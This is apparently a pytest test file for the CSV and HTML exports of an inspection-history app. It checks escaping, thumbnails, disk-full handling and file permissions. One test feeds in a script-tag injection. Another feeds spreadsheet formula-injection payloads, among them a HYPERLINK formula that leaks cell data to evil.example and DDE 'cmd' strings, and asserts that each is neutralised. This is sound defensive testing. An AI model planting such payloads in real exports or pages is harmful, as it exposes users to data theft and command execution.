"""CSV and HTML exports of the filtered history."""

from __future__ import annotations

import base64
import csv
import os
import re
import stat
from datetime import UTC, datetime, timedelta
from pathlib import Path

import cv2
import numpy as np
import pytest

from iadgpt_desktop.storage import Database, InspectionFilter, StorageError
from iadgpt_desktop.storage import repository as repo
from iadgpt_desktop.storage.export import CSV_COLUMNS, export_csv, export_html
from tests.storage.conftest import make_record

T0 = datetime(2026, 3, 1, 9, 0, tzinfo=UTC)


def fill(db: Database, n: int = 6) -> list[int]:
    rng = np.random.default_rng(0)
    ids = []
    with db.Session.begin() as s:
        product = repo.get_or_create_product(s, "bottle", "bottle")
        for i in range(n):
            image, sha = db.files.store_image(rng.integers(0, 256, (300, 400, 3), dtype=np.uint8))
            mask = db.files.store_mask(rng.random((300, 400)).astype(np.float32))
            defective = i % 2 == 0
            ids.append(repo.add_inspection(s, make_record(
                product_id=product, created_at=T0 + timedelta(minutes=i), image_path=image, image_sha256=sha,
                mask_path=mask, verdict="defective" if defective else "good", score=0.1 * i,
                defect_types=[("crack", 0.7), ("dent, deep", 0.2)] if defective else [],
                answer=f'Row {i}: "quoted", comma, and a line\nbreak. Ünïcödé',
            )))
    return ids


def test_csv_has_a_header_and_one_line_per_filtered_row(db: Database, tmp_path: Path) -> None:
    ids = fill(db)
    out = tmp_path / "exports" / "defective.csv"
    with db.Session() as s:
        n = export_csv(s, InspectionFilter(verdict="defective"), out)
    with out.open(encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    assert n == 3 and len(rows) == 4
    assert tuple(rows[0]) == CSV_COLUMNS
    records = [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    assert [int(r["id"]) for r in records] == [ids[0], ids[2], ids[4]]  # oldest first
    first = records[0]
    assert first["verdict"] == "defective" and first["product"] == "bottle"
    assert first["answer"] == 'Row 0: "quoted", comma, and a line\nbreak. Ünïcödé'
    assert first["defect_types"] == "crack:0.7000; dent, deep:0.2000"
    assert datetime.fromisoformat(first["created_at"]) == T0
    assert first["operator_decision"] == "" and first["decided_at"] == ""


def test_csv_latency_is_written_to_a_tenth_of_a_millisecond(db: Database, tmp_path: Path) -> None:
    with db.Session.begin() as s:
        repo.add_inspection(s, make_record(latency_ms=123.456789123))
    with db.Session() as s:
        export_csv(s, InspectionFilter(), tmp_path / "e.csv")
    with (tmp_path / "e.csv").open(encoding="utf-8", newline="") as f:
        (row,) = list(csv.DictReader(f))
    assert row["latency_ms"] == "123.5"


def test_csv_of_an_empty_selection_is_just_the_header(db: Database, tmp_path: Path) -> None:
    fill(db, 2)
    with db.Session() as s:
        assert export_csv(s, InspectionFilter(text="nothing matches"), tmp_path / "e.csv") == 0
    assert (tmp_path / "e.csv").read_text(encoding="utf-8").splitlines() == [",".join(CSV_COLUMNS)]


def test_html_report_embeds_thumbnails_and_escapes_text(db: Database, tmp_path: Path) -> None:
    ids = fill(db)
    with db.Session.begin() as s:
        repo.add_inspection(s, make_record(answer="<script>alert('x')</script>", verdict="good",
                                                  image_path="images/zz/missing.png", created_at=T0))
        repo.set_operator_decision(s, ids[0], "confirmed", operator="<b>ana</b>")
    out = tmp_path / "report.html"
    with db.Session() as s:
        n = export_html(s, InspectionFilter(), out, db.files)
    page = out.read_text(encoding="utf-8")
    assert n == 7
    assert "<script>" not in page and "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in page
    assert "&lt;b&gt;ana&lt;/b&gt;" in page
    # decisions read as History names them, in the summary and in the row
    assert "Defective after decisions<b>3</b>" in page and "Overridden: defective<b>0</b>" in page
    assert "Confirmed (&lt;b&gt;ana&lt;/b&gt;)" in page
    assert "overridden defective" not in page.lower().replace("overridden: defective", "")
    rows = re.findall(r"<tr>.*?</tr>", page, flags=re.S)[1:]  # skip the header row
    assert len(rows) == 7
    for row in rows:
        assert re.search(r'class="(defective|good)">(defective|good)</td>', row)
    real_rows = [r for r in rows if "missing.png" not in r]
    # one JPEG per row: the image with its anomaly map drawn over it
    assert all(len(re.findall(r'<img alt="[^"]+" src="data:image/jpeg;base64,', r)) == 1 for r in real_rows)
    assert "missing: images/zz/missing.png" in page  # a lost file is said, not fatal
    # summary at the top: 7 inspections, 3 defective, rate 42.9 %
    assert "Inspections<b>7</b>" in page and "Defective<b>3</b>" in page and "42.9%" in page
    assert page.index("Defect rate") < page.index("<table>")
    thumb = re.search(r'src="data:image/jpeg;base64,([^"]+)"', page).group(1)
    decoded = cv2.imdecode(np.frombuffer(base64.b64decode(thumb), np.uint8), cv2.IMREAD_COLOR)
    assert decoded.shape == (120, 160, 3)  # 400x300 resized to fit 160 px


def test_html_report_stops_at_max_rows_but_summarises_everything(db: Database, tmp_path: Path) -> None:
    fill(db, 5)
    out = tmp_path / "short.html"
    with db.Session() as s:
        n = export_html(s, InspectionFilter(), out, db.files, max_rows=2)
    page = out.read_text(encoding="utf-8")
    assert n == 2 and "Inspections<b>5</b>" in page and "showing the first 2" in page
    assert len(re.findall(r'src="data:image/jpeg;base64,', page)) == 2


def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(db: Database, tmp_path: Path) -> None:
    attacks = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2",
               "-2+3", "\t=1+1", "\r=1+1"]
    with db.Session.begin() as s:
        product = repo.get_or_create_product(s, "=cmd|' /C calc'!A0", "bottle")
        for i, text in enumerate(attacks):
            iid = repo.add_inspection(s, make_record(product_id=product, answer=text, position=text,
                                                     image_sha256=f"{i:064x}", score=0.25))
            repo.set_operator_decision(s, iid, "confirmed", operator=text, note=text)
    out = tmp_path / "export.csv"
    with db.Session() as s:
        assert export_csv(s, InspectionFilter(), out) == len(attacks)
    with open(out, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    for row, text in zip(rows, attacks, strict=True):
        for column in ("answer", "position", "operator", "note"):
            assert row[column] == "'" + text  # shown as the text it is, never evaluated
        assert row["product"] == "'=cmd|' /C calc'!A0"
        assert row["score"] == "0.25"  # numbers stay numbers
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("kind", ["csv", "html"])
def test_an_export_that_fills_the_disk_names_the_file_and_keeps_the_previous_export(
        db: Database, tmp_path: Path, request: pytest.FixtureRequest, kind: str) -> None:
    fill(db, 3)
    out = tmp_path / "exports" / f"report.{kind}"
    out.parent.mkdir()
    out.write_text("the previous export\n", encoding="utf-8")
    request.getfixturevalue("disk_fills_midway")  # after fill(): the images and masks are on the disk
    with db.Session() as s, pytest.raises(StorageError) as caught:
        if kind == "csv":
            export_csv(s, InspectionFilter(), out)
        else:
            export_html(s, InspectionFilter(), out, db.files)
    assert str(caught.value).startswith(f"could not write to the export file {out}: the disk is full")
    assert "Free space on that drive" in str(caught.value)
    assert out.read_text(encoding="utf-8") == "the previous export\n"
    assert [p.name for p in out.parent.iterdir()] == [out.name]  # no temporary file beside it


def test_an_export_into_a_folder_that_cannot_be_made_says_to_choose_another(db: Database, tmp_path: Path) -> None:
    (tmp_path / "not-a-folder").write_text("a file where the folder should be", encoding="utf-8")
    out = tmp_path / "not-a-folder" / "e.csv"
    with db.Session() as s, pytest.raises(StorageError, match=r"could not write the export .*e\.csv: .*; choose "
                                                              r"another folder"):
        export_csv(s, InspectionFilter(), out)


@pytest.mark.skipif(os.name == "nt", reason="POSIX permission bits")
def test_exports_are_readable_by_other_users(db: Database, tmp_path: Path, umask) -> None:
    """The QA lead mails the report or a colleague opens it from a shared folder: not mkstemp's 0o600."""
    fill(db, 2)
    umask(0o022)
    with db.Session() as s:
        export_csv(s, InspectionFilter(), tmp_path / "e.csv")
        export_html(s, InspectionFilter(), tmp_path / "e.html", db.files)
    for name in ("e.csv", "e.html"):
        assert stat.S_IMODE((tmp_path / name).stat().st_mode) == 0o644, name
